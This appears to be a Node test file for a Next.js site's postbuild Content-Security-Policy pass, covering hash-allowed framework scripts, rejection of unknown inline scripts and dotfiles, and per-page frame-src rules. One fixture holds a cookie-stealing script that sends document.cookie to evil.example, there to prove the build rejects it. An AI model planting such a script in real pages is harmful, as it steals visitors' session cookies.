// The build's CSP pass (postbuild: scripts/csp.mjs) over an export that holds an inline script Next never writes:
// the build must fail naming the page, instead of allowing the script by hash.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';

const script = new URL('./csp.mjs', import.meta.url).pathname;
const NEXT_SCRIPTS =
  '<script src="/_next/static/chunks/a.js" async=""></script>' +
  '<script id="_R_">(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});</script>' +
  '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>self.__next_f.push([1,"0:[]\\n"])</script>';
const page = (extra = '') =>
  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>${NEXT_SCRIPTS}</head><body><h1>x</h1>${extra}</body></html>`;

function runCsp(dir) {
  const env = Object.fromEntries(Object.entries(process.env).filter(([key]) => key !== 'NEXT_OUTPUT'));
  return spawnSync(process.execPath, [script, dir], { encoding: 'utf8', env });
}

function exportWith(files) {
  const dir = mkdtempSync(join(tmpdir(), 'csp-strict-'));
  for (const [path, body] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), body);
  }
  return dir;
}

test('an export with only the scripts Next writes gets its policies', () => {
  const dir = exportWith({ 'index.html': page(), 'about.html': page() });
  try {
    const result = runCsp(dir);
    assert.equal(result.status, 0, result.stderr);
    assert.match(readFileSync(join(dir, 'index.html'), 'utf8'), /<meta http-equiv="Content-Security-Policy" content="[^"]*'sha256-/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('an export with an unknown inline script fails the build, naming the page and the script', () => {
  const dir = exportWith({
    'index.html': page(),
    'blog/1/post.html': page('<script>new Image().src="//evil.example/?"+document.cookie</script>'),
  });
  try {
    const result = runCsp(dir);
    assert.notEqual(result.status, 0);
    assert.match(result.stderr, /blog\/1\/post\.html/);
    assert.match(result.stderr, /shape the CSP pass does not know/);
    assert.match(result.stderr, /evil\.example/);
    assert.doesNotMatch(readFileSync(join(dir, 'blog/1/post.html'), 'utf8'), /Content-Security-Policy/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('an export holding a dotfile fails the build, but /.well-known/ is fine', () => {
  const dir = exportWith({ 'index.html': page(), '.well-known/security.txt': 'Contact: x', '.env': 'SECRET=1' });
  try {
    const result = runCsp(dir);
    assert.notEqual(result.status, 0);
    assert.match(result.stderr, /dotfiles a static host would serve: \.env/);
    rmSync(join(dir, '.env'));
    assert.equal(runCsp(dir).status, 0);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("the article pages (and only they) may frame the site's video players", () => {
  const articles = ['blog/7/upgrade-walkthrough.html', 'blog/article.html'];
  const others = ['index.html', 'blog.html', 'blog/page/2.html', 'blog/category/edge.html', 'search.html', '404.html'];
  const dir = exportWith(Object.fromEntries([...articles, ...others].map((path) => [path, page()])));
  const frameSrc = (path) =>
    /frame-src ([^;"]*)/.exec(readFileSync(join(dir, path), 'utf8').match(/Content-Security-Policy" content="([^"]*)"/)?.[1] ?? '')?.[1];
  try {
    const result = runCsp(dir);
    assert.equal(result.status, 0, result.stderr);
    for (const path of articles) assert.equal(frameSrc(path), 'https://www.youtube-nocookie.com https://player.vimeo.com', path);
    for (const path of others) assert.equal(frameSrc(path), "'none'", path);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
